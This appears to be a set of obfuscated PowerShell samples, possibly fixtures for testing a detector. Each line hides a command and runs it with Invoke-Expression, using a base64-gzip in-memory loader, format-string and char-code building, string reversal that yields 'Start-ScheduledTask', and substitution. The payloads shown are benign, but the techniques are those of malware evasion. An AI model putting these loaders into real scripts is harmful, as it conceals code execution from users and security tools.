$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAACAwsuSSwq0Q1OzkhNKc1JTQlJLM5WSAQAjf7O+hUAAAA="));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();
&('{1}e{0}'-f'x','i') (-join [char[]](83,116,97,114,116))
$c='a ksaTdeludehcS-tratS'.ToCharArray(); [array]::Reverse($c); iex (-join $c)
iex ('StZrt'.Replace('StZ','Sta') -replace 'a','b'); $r = 'abc'[-1..-3] -join ''
